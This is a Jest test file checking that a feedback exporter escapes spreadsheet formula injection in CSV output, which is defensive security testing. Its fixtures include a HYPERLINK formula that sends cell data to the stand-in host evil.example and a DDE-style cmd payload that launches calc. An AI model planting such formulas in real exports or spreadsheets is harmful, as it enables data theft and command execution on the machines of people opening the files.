/**
 * CSV cells of text that begin with `=`, `+`, `-`, `@`, a tab or a carriage return get a leading `'`, so a
 * spreadsheet opening a reader export runs no formula a reader wrote; JSON is written as it is.
 * dist/index.js exporting feedback from the simulator, whose feedback endpoint answers with planted comments.
 */
import { afterEach, beforeEach, expect, test } from '@jest/globals'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { ActionRun } from '../../scripts/run-action.js'
import { type Simulator, startSimulator } from '../../simulator/index.js'
import { output, runAgainst } from './harness.js'

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
const PLAIN = 'The example on this page did not work for me.'

/** A feedback entry as the API documents it (a contextual one: base fields only). */
function entry(id: string, comment: string): Record<string, unknown> {
  return { id, path: '/docs/quickstart', comment, createdAt: '2026-06-09T10:00:00.000Z', source: 'contextual', status: 'pending' }
}

let sim: Simulator
beforeEach(async () => {
  sim = await startSimulator()
  sim.route('GET', /^\/v1\/analytics\/[^/]+\/feedback$/, () => ({
    status: 200,
    json: { feedback: [entry('fb-1', HYPERLINK), entry('fb-2', SUM), entry('fb-3', PLAIN)], nextCursor: null, hasMore: false }
  }))
})
afterEach(async () => {
  await sim.close()
})

function exportFeedback(file: string): Promise<ActionRun> {
  return runAgainst(sim, {
    inputs: { operation: 'feedback', prompt: '', 'date-from': '2026-06-08', 'date-to': '2026-06-15', 'output-file': file }
  })
}

/** The comment column of each data line (the comments hold commas and quotes, so the cells are quoted). */
function commentCells(csv: string): string[] {
  const [header = '', ...lines] = csv.trimEnd().split('\r\n')
  expect(header).toBe('id,path,createdAt,source,status,helpful,comment,code,filename,lang')
  return lines.map((line) => {
    const match = /^fb-\d,\/docs\/quickstart,[^,]+,contextual,pending,,("(?:[^"]|"")*"|[^,]*),,,$/.exec(line)
    if (!match?.[1]) throw new Error(`unexpected line ${JSON.stringify(line)}`)
    return match[1].startsWith('"') ? match[1].slice(1, -1).replace(/""/g, '"') : match[1]
  })
}

test("a feedback export to CSV starts the cells of comments that begin with = or @ with '", async () => {
  const run = await exportFeedback('feedback.csv')

  expect(run.outputs.outcome).toBe('exported')
  expect(output(run, 'row-count')).toBe('3')
  const cells = commentCells(readFileSync(join(run.workspace, 'feedback.csv'), 'utf8'))
  expect(cells).toEqual([`'${HYPERLINK}`, `'${SUM}`, PLAIN])
})

test('a feedback export to JSON keeps the comments as the readers wrote them', async () => {
  const run = await exportFeedback('feedback.json')

  const file = JSON.parse(readFileSync(join(run.workspace, 'feedback.json'), 'utf8')) as { rows: { comment: string }[] }
  expect(file.rows.map((row) => row.comment)).toEqual([HYPERLINK, SUM, PLAIN])
})
